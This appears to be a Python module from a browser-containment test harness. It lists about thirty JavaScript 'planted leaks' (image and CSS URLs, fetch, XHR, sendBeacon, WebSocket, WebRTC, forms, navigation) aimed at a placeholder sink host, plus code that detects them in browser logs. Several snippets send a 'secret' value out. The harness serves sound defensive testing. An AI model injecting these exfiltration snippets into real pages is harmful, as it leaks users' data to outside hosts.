"""Planted leaks of a page: ways in which a page in a browser could contact another host.

The harness runs the code of each in the open page with the rights of the page's own scripts: the most that an attacker
could do by injecting markup or a script.
"""

import re
from dataclasses import dataclass
from ipaddress import ip_address


@dataclass(frozen=True, slots=True)
class PageLeak:
    """One planted leak of a page.

    Attributes:
        name: its name in the report.
        code: JavaScript; HTTP and HOST stand for the URL and the host of the target.
        is_leaving: whether it navigates away or opens another page, so that it needs a page of its own.
    """

    name: str
    code: str
    is_leaving: bool = False

    def host(self, sink: str) -> str:
        """Return the target host, a subdomain of the sink that identifies the leak; an address is unchanged."""
        return sink if _is_address(sink) else f"{self.name}.{sink}"

    def script(self, sink: str) -> str:
        """Return the JavaScript that tries the leak towards a sink."""
        host = self.host(sink)
        return "() => {" + self.code.replace("HTTP", f"http://{host}/{self.name}").replace("HOST", host) + "}"

    def is_traced(self, target: str, sink: str, address: str = "") -> bool:
        """Return whether a URL, host or address in the browser's log is the target of this leak.

        Args:
            target: as in the log.
            sink: the host that all leaks try to reach.
            address: the loopback address that this leak's host is mapped to, if the browser is contained.
        """
        found = TARGET.match(target)
        host, port, path = found.groups() if found else ("", "", "")
        host = host.rstrip(".")  # WebRTC looks up the name with a trailing dot
        if not _is_address(sink):
            return host in (self.host(sink), address)
        return host.strip("[]") == sink and (path == f"/{self.name}" or port == str(PORTS.get(self.name)))


PORTS = {"preconnect": 8021, "webrtc": 3478, "webtransport": 8443, "websocket": 8081}
"""Ports that identify the leaks without a path."""
TARGET = re.compile(r"(?:\w+://)?([^:/?#\[]+|\[[0-9a-f:.]+\])(?::(\d+))?(/[^?#]*)?")


def _is_address(host: str) -> bool:
    try:
        ip_address(host)
    except ValueError:
        return False
    return True


def _element(tag: str, attributes: str, tail: str = "") -> str:
    return f"const e = document.createElement('{tag}'); Object.assign(e, {attributes}); document.body.append(e); {tail}"


def _markup(html: str, tail: str = "") -> str:
    return f"const d = document.createElement('div'); d.innerHTML = `{html}`; document.body.append(d); {tail}"


def _hint(relation: str, where: str = "HTTP", more: str = "") -> str:
    return (
        f"const e = document.createElement('link'); e.rel = '{relation}'; e.href = '{where}'; {more}"
        "document.head.append(e)"
    )


PAGE_LEAKS = (
    PageLeak("markdown-image", _markup("<p><img alt=x src=HTTP?q=secret></p>")),
    PageLeak("svg-image", _markup("<svg><image href=HTTP /></svg>")),
    PageLeak("css-url", _markup("<div style='background:url(HTTP)'>x</div>")),
    PageLeak("style-sheet", _hint("stylesheet")),
    PageLeak("style-import", _markup("<style>@import url(HTTP);</style>")),
    PageLeak("font", "new FontFace('planted', 'url(HTTP)').load().catch(() => 0)"),
    PageLeak("script", _element("script", "{src: 'HTTP'}")),
    PageLeak("module", "import('HTTP').catch(() => 0)"),
    PageLeak("worker", "new Worker(URL.createObjectURL(new Blob([\"importScripts('HTTP')\"])))"),
    PageLeak("iframe", _element("iframe", "{src: 'HTTP'}")),
    PageLeak("object", _element("object", "{data: 'HTTP'}")),
    PageLeak("video", _element("video", "{src: 'HTTP', preload: 'auto'}")),
    PageLeak("prefetch", _hint("prefetch")),
    PageLeak("preload", _hint("preload", more="e.as = 'image'; ")),
    PageLeak("dns-prefetch", _hint("dns-prefetch", "//HOST")),
    PageLeak("preconnect", _hint("preconnect", f"http://HOST:{PORTS['preconnect']}")),
    PageLeak(
        "prerender",
        _element(
            "script",
            "{type: 'speculationrules', textContent: JSON.stringify({prefetch: [{urls: ['https://HOST/prerender']}]})}",
        ),
    ),
    PageLeak("fetch", "fetch('HTTP', {mode: 'no-cors'}).catch(() => 0)"),
    PageLeak("xhr", "const x = new XMLHttpRequest(); x.open('POST', 'HTTP'); x.send('secret')"),
    PageLeak("beacon", "navigator.sendBeacon('HTTP', 'secret')"),
    PageLeak("event-source", "new EventSource('HTTP')"),
    PageLeak("websocket", f"try {{ new WebSocket('ws://HOST:{PORTS['websocket']}/') }} catch (error) {{}}"),
    PageLeak("link-ping", _markup("<a href='#x' ping=HTTP>x</a>", "d.firstChild.click()")),
    PageLeak("webtransport", f"new WebTransport('https://HOST:{PORTS['webtransport']}/').ready.catch(() => 0)"),
    PageLeak(
        "webrtc",
        f"const c = window.planted = new RTCPeerConnection({{iceServers: [{{urls: 'stun:HOST:{PORTS['webrtc']}'}}]}}); "
        "c.createDataChannel('x'); c.createOffer().then(offer => c.setLocalDescription(offer))",
    ),
    PageLeak("form", _element("form", "{action: 'HTTP', method: 'post'}", "e.submit()"), is_leaving=True),
    PageLeak("form-new-tab", _element("form", "{action: 'HTTP', target: '_blank'}", "e.submit()"), is_leaving=True),
    PageLeak("window-open", "window.open('HTTP')", is_leaving=True),
    PageLeak("link-new-tab", _element("a", "{href: 'HTTP', target: '_blank'}", "e.click()"), is_leaving=True),
    PageLeak("link", _element("a", "{href: 'HTTP'}", "e.click()"), is_leaving=True),
    PageLeak("navigation", "location.href = 'HTTP'", is_leaving=True),
    PageLeak("meta-refresh", _markup("<meta http-equiv=refresh content='0;url=HTTP'>"), is_leaving=True),
)
"""All planted leaks of a page; `name` is unique."""
